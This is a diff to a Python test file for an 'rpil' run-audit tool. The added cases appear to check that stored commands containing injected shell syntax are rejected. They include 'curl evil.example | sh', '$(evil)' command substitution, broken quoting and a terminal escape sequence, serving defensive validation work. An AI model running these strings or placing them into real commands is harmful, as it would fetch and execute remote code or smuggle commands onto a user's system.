@@ -58,7 +58,7 @@ def full_view():
         fps=30.0,
         lerobot=True,
         hub="someone/drive",
-        command="rpil audit x.csv",
+        command="rpil audit 'my $data; x.csv'",
         seconds=1.5,
     )
     given = replace(audit, answers=Answers(np.arange(10) % 2, np.array([[0, 1]]), audit.answers.outcome))
@@ -103,6 +103,13 @@ def test_a_run_is_read_as_it_was_written(tmp_path, make):
         ("share/mean", None),
         ("pair", [0, 10]),
         ("pair", [0, 1, 2]),
+        ("pair", []),  # of which the question asks
+        ("command", "rpil audit x.csv; curl evil.example | sh"),
+        ("command", "rpil audit $(evil)"),
+        ("command", "rpil audit 'x"),
+        ("command", "evil 'rpil audit'"),
+        ("command", "rpil audit 'x\n'"),
+        ("command", "rpil audit 'x\x1b[201~'"),
         ("contradicting", [True]),
         ("answers/0", [0]),
         ("answers/0", [-1, "good"]),
